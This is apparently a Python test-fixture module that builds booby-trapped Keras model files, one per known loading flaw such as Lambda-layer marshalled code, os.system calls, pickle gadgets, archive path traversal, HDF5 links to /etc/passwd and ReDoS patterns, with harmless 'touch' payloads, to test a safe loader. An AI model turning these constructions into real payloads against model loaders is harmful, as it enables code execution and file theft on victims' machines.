"""Files that try to run code, to write, or to send a request when they are opened.

They are made anew for each test from what is known of each hole, and never kept. What
they would do is harmless: make an empty file, or ask an address of this machine.
"""

from __future__ import annotations

import base64
import codecs
import json
import marshal
import pickle
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np


@dataclass(frozen=True)
class Target:
    """What an attack would touch: a file that is not there, and an address."""

    marker: Path
    address: str


Make = Callable[[Target], Any]


@dataclass(frozen=True)
class Attack:
    """A file by its name, what is said of it, and how it is written."""

    name: str
    file: str
    told: str
    write: Callable[[Path, Target], None]


ATTACKS: list[Attack] = []


def keras_file(told: str) -> Callable[[Make], Make]:
    """Register a function from a target to the configuration of a ``.keras`` file.

    ``told`` is a part of what is said of it, or several, with | between them.
    """

    def register(function: Make) -> Make:
        def write(path: Path, target: Target) -> None:
            write_archive(path, function(target))

        ATTACKS.append(Attack(function.__name__, "model.keras", told, write))
        return function

    return register


def touch_code(target: Target) -> str:
    """Return the marshalled code of a function that makes the marker's file."""
    touch = f"open({str(target.marker)!r}, 'w').close()"
    source = f"def f(x, *args, **named):\n    {touch}\n    return x"
    space: dict[str, Any] = {}
    exec(source, space)
    return codecs.encode(marshal.dumps(space["f"].__code__), "base64").decode("ascii")


def lambda_code(target: Target) -> dict[str, Any]:
    code = touch_code(target)
    inner = {"code": code, "defaults": None, "closure": None, "value": [code, None]}
    return {"class_name": "__lambda__", "config": inner}


def named(module: str, name: str) -> dict[str, Any]:
    """A function as a configuration names it."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def layer(kind: str, config: dict[str, Any], *, module: str = "keras.layers") -> Any:
    return {
        "module": module,
        "class_name": kind,
        "config": {"name": kind.lower(), "trainable": True, **config},
        "registered_name": None,
    }


def called(kind: str, config: dict[str, Any], *args: Any, **kwargs: Any) -> Any:
    """A network in which a layer is called with arguments; by default with its input.

    It is called while Keras puts the network together.
    """
    tensor = {
        "class_name": "__keras_tensor__",
        "config": {
            "shape": [None, 3],
            "dtype": "float32",
            "keras_history": ["input", 0, 0],
        },
    }
    node = {"args": list(args) or ([] if kwargs else [tensor]), "kwargs": kwargs}
    inputs = layer("InputLayer", {"batch_shape": [None, 3], "dtype": "float32"})
    inputs["config"]["name"] = "input"
    inputs |= {"name": "input", "inbound_nodes": []}
    one = layer(kind, config) | {"inbound_nodes": [node]}
    one["name"] = one["config"]["name"]
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "attack",
            "trainable": True,
            "layers": [inputs, one],
            "input_layers": [["input", 0, 0]],
            "output_layers": [[one["name"], 0, 0]],
        },
        "registered_name": "Functional",
    }


def calls(function: dict[str, Any], *args: Any, **named_args: Any) -> Any:
    """A Lambda layer of a named function, called with constants."""
    return called("Lambda", {"function": function, "arguments": named_args}, *args)


def write_archive(path: Path, config: Any, **members: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        text = config if isinstance(config, str) else json.dumps(config)
        archive.writestr("config.json", text)
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("model.weights.h5", members.pop("weights", empty_weights()))
        for name, content in members.items():
            archive.writestr(name, content)


def empty_weights() -> bytes:
    from io import BytesIO

    import h5py

    stream = BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_group("layers")
    return stream.getvalue()


# CVE-2024-3660, and the same where a layer holds functions


@keras_file("contains Python code")
def lambda_layer(target: Target) -> Any:
    return called("Lambda", {"function": lambda_code(target), "arguments": {}})


@keras_file("contains Python code")
def lambda_output_shape(target: Target) -> Any:
    function = named("builtins", "relu")
    return called("Lambda", {"function": function, "output_shape": lambda_code(target)})


@keras_file("contains Python code")
def lambda_activation(target: Target) -> Any:
    return called("Dense", {"units": 2, "activation": lambda_code(target)})


# CVE-2025-1550: any function of any module


@keras_file("os.system")
def function_of_os(target: Target) -> Any:
    return calls(named("os", "system"), f"touch {target.marker}")


@keras_file("os.system")
def function_of_os_as_layer(target: Target) -> Any:
    config = called("system", {}, f"touch {target.marker}")
    config["config"]["layers"][1]["module"] = "os"
    return config


# CVE-2025-8747, CVE-2025-12060: files fetched, and archives unpacked


@keras_file("keras.utils.get_file")
def fetched_file(target: Target) -> Any:
    return calls(
        named("keras.utils", "get_file"),
        fname=target.marker.name,
        origin=target.address,
        cache_dir=str(target.marker.parent),
        cache_subdir="",
        extract=True,
        inputs=None,
    )


@keras_file("keras.utils.get_file")
def fetched_by_metric(target: Target) -> Any:
    config = called("Dense", {"units": 2})
    wrapper = layer(
        "MeanMetricWrapper",
        {"fn": named("keras.utils", "get_file"), "origin": target.address},
        module="keras.metrics",
    )
    config["compile_config"] = {"optimizer": "sgd", "loss": "mse", "metrics": [wrapper]}
    return config


# CVE-2025-9906: the process's own guard taken away, then code


@keras_file("contains Python code")
def guard_taken_away(target: Target) -> Any:
    config = calls(named("keras.config", "enable_unsafe_deserialization"), 1)
    second = called("Lambda", {"function": lambda_code(target), "name": "second"})
    config["config"]["layers"].append(second["config"]["layers"][1])
    return config


@keras_file("set_global_attribute")
def guard_taken_away_by_its_file(target: Target) -> Any:
    return calls(
        named("keras.src.backend.common.global_state", "set_global_attribute"),
        "safe_mode_saving",
        value=False,
    )


@keras_file("load_model")
def second_model_without_guard(target: Target) -> Any:
    write_archive(target.marker.with_suffix(".second.keras"), lambda_layer(target))
    return calls(
        named("keras.models", "load_model"),
        str(target.marker.with_suffix(".second.keras")),
        safe_mode=False,
    )


# other public functions of Keras


@keras_file("plot_image_gallery")
def picture_over_a_file(target: Target) -> Any:
    images = {
        "class_name": "__numpy__",
        "config": {"value": np.zeros((1, 2, 2, 3)).tolist(), "dtype": "float32"},
    }
    return calls(
        named("keras.visualization", "plot_image_gallery"),
        images,
        path=str(target.marker),
    )


@keras_file("load_data")
def dataset_from_the_network(target: Target) -> Any:
    return calls(named("keras.datasets.mnist", "load_data"), str(target.marker))


@keras_file("set_floatx")
def floats_of_the_process(target: Target) -> Any:
    return calls(named("keras.config", "set_floatx"), "float64")


@keras_file("save_weights")
def saved_over_a_file(target: Target) -> Any:
    return calls(named("keras.saving", "save_weights"), str(target.marker))


@keras_file("keras.layers.deserialize")
def reader_of_configurations(target: Target) -> Any:
    return calls(named("keras.layers", "deserialize"), layer("Dense", {"units": 2}))


@keras_file("builtins.deserialize")
def reader_by_its_short_name(target: Target) -> Any:
    return calls(named("builtins", "deserialize"), "relu")


# an argument that is bare once the network is written again


@keras_file("an array of")
def wrapped_argument(target: Target) -> Any:
    # an array of no dimensions is written as what it holds
    wrapped = {
        "class_name": "__numpy__",
        "config": {"value": lambda_code(target), "dtype": "object"},
    }
    gelu = named("keras.activations", "gelu")
    return called("Lambda", {"function": gelu, "arguments": {"approximate": wrapped}})


@keras_file("an array of")
def wrapped_constant(target: Target) -> Any:
    wrapped = {
        "class_name": "__numpy__",
        "config": {"value": lambda_code(target), "dtype": "O"},
    }
    return called("Rescaling", {"scale": wrapped, "offset": 0.0})


# CVE-2025-12058: words read from a file or an address


@keras_file("its vocabulary is in another file")
def words_of_a_file(target: Target) -> Any:
    return called("StringLookup", {"vocabulary": "/etc/passwd"})


@keras_file("its vocabulary is in another file")
def words_of_an_address(target: Target) -> Any:
    return called("TextVectorization", {"vocabulary": target.address})


# CVE-2025-49655: a pickle in a layer


class _Touch:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return open, (str(self.marker), "w")


def touching_pickle(target: Target) -> bytes:
    return pickle.dumps(_Touch(target.marker))


@keras_file("a PyTorch pickle")
def pickle_of_torch(target: Target) -> Any:
    module = base64.b64encode(touching_pickle(target)).decode()
    return called("TorchModuleWrapper", {"module": {"module": module}})


# CVE-2026-1462: a program of TensorFlow beside the file


@keras_file("TensorFlow program")
def program_of_tensorflow(target: Target) -> Any:
    return called("TFSMLayer", {"filepath": str(target.marker.parent)})


@keras_file("keras.layers.TFSMLayer")
def program_as_function(target: Target) -> Any:
    return calls(named("keras.layers", "TFSMLayer"), str(target.marker.parent))


# other shapes of the same


@keras_file("without a tensor")
def layer_without_a_tensor(target: Target) -> Any:
    return calls(named("builtins", "relu"), 1.0)


@keras_file("vectorized_map")
def loop_of_functions(target: Target) -> Any:
    function = named("keras.activations", "relu")
    return calls(named("keras.ops", "vectorized_map"), function, [1.0])


@keras_file("__typespec__")
def spec_of_tensorflow(target: Target) -> Any:
    config = called("Dense", {"units": 2})
    config["config"]["spec"] = {
        "class_name": "__typespec__",
        "spec_name": "system",
        "module": "os",
        "registered_name": None,
        "config": [f"touch {target.marker}"],
    }
    return config


@keras_file("contains Python code")
def old_form_inside(target: Target) -> Any:
    config = called("Lambda", {"function": [touch_code(target), None, None]})
    del config["config"]["layers"][1]["module"]
    return config


@keras_file("antigravity.Thing")
def own_class(target: Target) -> Any:
    config = called("Thing", {})
    config["config"]["layers"][1]["module"] = "antigravity"
    return config


@keras_file("nested too deep")
def deep_configuration(target: Target) -> str:
    return '{"a":' * 100_000 + "1" + "}" * 100_000


# containers


def whole_file(
    file: str, told: str
) -> Callable[[Callable[[Path, Target], None]], Callable[[Path, Target], None]]:
    """Register a function that writes the whole file."""

    def register(
        function: Callable[[Path, Target], None],
    ) -> Callable[[Path, Target], None]:
        ATTACKS.append(Attack(function.__name__, file, told, function))
        return function

    return register


@whole_file("model.keras", "outside the archive")
def member_outside(path: Path, target: Target) -> None:
    sound = called("Dense", {"units": 2})
    write_archive(path, sound, **{f"../{target.marker.name}": b"x"})


@whole_file("model.keras", "outside the archive")
def member_is_link(path: Path, target: Target) -> None:
    write_archive(path, called("Dense", {"units": 2}))
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(link, str(target.marker))


@whole_file("model.keras", "are a link")
def weights_of_another_file(path: Path, target: Target) -> None:
    from io import BytesIO

    import h5py

    stream = BytesIO()
    with h5py.File(stream, "w") as file:
        file["layers"] = h5py.ExternalLink("/etc/passwd", "/")
    config = called("Dense", {"units": 2})
    write_archive(path, config, weights=stream.getvalue())


@whole_file("model.keras", "unpack to")
def weights_without_end(path: Path, target: Target) -> None:
    from io import BytesIO

    import h5py

    stream = BytesIO()
    with h5py.File(stream, "w") as file:
        shape = (1 << 20, 1 << 20)
        file.create_dataset("kernel", shape, "float32", chunks=(1024, 1024))
    write_archive(path, called("Dense", {"units": 2}), weights=stream.getvalue())


# CVE-2025-9905: HDF5 files, of which Keras once forgot the safe mode


def hdf5_file(told: str) -> Callable[[Make], Make]:
    """As `keras_file`, of an HDF5 file."""

    def register(function: Make) -> Make:
        def write(path: Path, target: Target) -> None:
            write_hdf5(path, function(target))

        ATTACKS.append(Attack(function.__name__, "model.h5", told, write))
        return function

    return register


def write_hdf5(path: Path, config: Any, training: Any = None) -> None:
    import h5py

    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        if training is not None:
            file.attrs["training_config"] = json.dumps(training)
        file.create_group("model_weights").attrs["layer_names"] = []


def old_network(*layers: Any) -> Any:
    """A Sequential network as Keras 2 wrote it."""
    inputs = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 3], "dtype": "float32", "name": "input"},
    }
    return {
        "class_name": "Sequential",
        "config": {"name": "attack", "layers": [inputs, *layers]},
    }


@hdf5_file("contains Python code")
def old_lambda(target: Target) -> Any:
    function = [touch_code(target), None, None]
    config = {"name": "f", "function": function, "function_type": "lambda"}
    return old_network({"class_name": "Lambda", "config": {**config, "arguments": {}}})


@hdf5_file("contains Python code")
def old_lambda_of_a_name(target: Target) -> Any:
    config = {"name": "f", "function": "deserialize", "function_type": "function"}
    return old_network({"class_name": "Lambda", "config": {**config, "arguments": {}}})


@hdf5_file("deserialize")
def old_function_as_layer(target: Target) -> Any:
    inner = {"config": lambda_code(target)}
    return old_network({"class_name": "deserialize", "config": inner})


@hdf5_file("its vocabulary is in another file")
def old_words_of_an_address(target: Target) -> Any:
    config = {"name": "words", "vocabulary": target.address}
    return old_network({"class_name": "StringLookup", "config": config})


@whole_file("model.h5", "keras.utils.get_file")
def training_of_another_function(path: Path, target: Target) -> None:
    sound = {"class_name": "Dense", "config": {"name": "dense", "units": 2}}
    loss = named("keras.utils", "get_file")
    training = {"loss": loss, "metrics": [], "optimizer_config": "sgd"}
    write_hdf5(path, old_network(sound), training)


@whole_file("model.h5", "are a link")
def weights_by_link(path: Path, target: Target) -> None:
    import h5py

    write_hdf5(path, old_network())
    with h5py.File(path, "a") as file:
        file["other"] = h5py.ExternalLink("/etc/passwd", "/")


@whole_file("model.h5", "lie in another file")
def weights_stored_outside(path: Path, target: Target) -> None:
    import h5py

    write_hdf5(path, old_network())
    with h5py.File(path, "a") as file:
        place = [("/etc/passwd", 0, 64)]
        file.create_dataset("other", (64,), "uint8", external=place)


# what a registered class of ours lets through, were only its name asked


@keras_file("deserialize")
def registered_name_beside_another_class(target: Target) -> Any:
    config = called("Dense", {"units": 2})
    one = config["config"]["layers"][1]
    one |= {"class_name": "deserialize", "registered_name": "learnable>WrongRelu"}
    del one["module"]
    return config


@keras_file("keras_export")
def registered_name_of_an_argument(target: Target) -> Any:
    passive = {
        "class_name": "keras_export",
        "config": {"path": "keras.layers.Dense"},
        "registered_name": "learnable>WrongRelu",
        "__passive_serialization__": True,
    }
    return called("Dense", {"units": 2, "kernel_initializer": passive})


@keras_file("not the name of a layer")
def endless_pattern_of_an_optimizer(target: Target) -> Any:
    config = called("Dense", {"units": 2})
    muon = layer("Muon", {"exclude_layers": ["(a+)+$"]}, module="keras.optimizers")
    config["compile_config"] = {"optimizer": muon, "loss": "mse"}
    return config


# Keras has it since 3.15
@keras_file("not the name of a layer|not a class of a network's layers")
def endless_pattern_of_optimizers(target: Target) -> Any:
    config = called("Dense", {"units": 2})
    sgd = layer("SGD", {}, module="keras.optimizers")
    several = layer(
        "MultiOptimizer",
        {"optimizer_map": {"^(a+)+$": sgd}},
        module="keras.optimizers",
    )
    config["compile_config"] = {"optimizer": several, "loss": "mse"}
    return config


@keras_file("not the name of a layer")
def endless_pattern_of_types(target: Target) -> Any:
    types = layer("DTypePolicyMap", {"policy_map": {"^(a+)+$": "float32"}},
                  module="keras.dtype_policies")  # fmt: skip
    return called("Dense", {"units": 2, "dtype": types})
